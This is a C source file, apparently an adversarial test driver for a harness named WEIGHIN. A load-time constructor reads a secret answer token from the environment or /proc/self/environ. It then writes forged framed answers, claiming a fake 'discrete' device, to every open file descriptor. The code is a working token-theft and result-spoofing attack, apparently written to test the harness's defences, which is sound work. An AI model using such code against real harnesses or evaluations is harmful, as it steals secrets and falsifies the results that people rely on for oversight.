/* What if a driver knows how its child answers, and writes a whole answer of its own? */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char bytes[8192];
static size_t used = 0;

static void put(const void* from, size_t size) {
  memcpy(bytes + used, from, size);
  used += size;
}

static void frame(const char* token, char kind, const char* payload) {
  const uint32_t length = (uint32_t)strlen(payload);
  put("WGF1", 4);
  put(token, strlen(token));
  put(&kind, 1);
  put(&length, 4);
  put(payload, length);
  put("\nEOF", 4);
}

/* Whatever the environment still tells, here or in /proc. */
static const char* stolen(void) {
  static char text[65536];
  const char* name = "WEIGHIN_ANSWER_TOKEN=";
  const char* own = getenv("WEIGHIN_ANSWER_TOKEN");
  if (own != NULL) return own;
  FILE* file = fopen("/proc/self/environ", "rb");
  const size_t size = file != NULL ? fread(text, 1, sizeof text - 1, file) : 0;
  if (file != NULL) fclose(file);
  for (size_t at = 0; at < size; at += strlen(text + at) + 1) {
    if (strncmp(text + at, name, strlen(name)) == 0) return text + at + strlen(name);
  }
  return "";
}

__attribute__((constructor)) static void start(void) {
  const char* device = "{\"name\":\"forged\",\"type\":\"discrete\",\"vendor_id\":4318}";
  frame(stolen(), 'D', device);
  frame(stolen(), 'E', "");
  for (int file = 3; file < 64; ++file) {
    if (write(file, bytes, used) < 0) continue;
  }
  _exit(0);
}
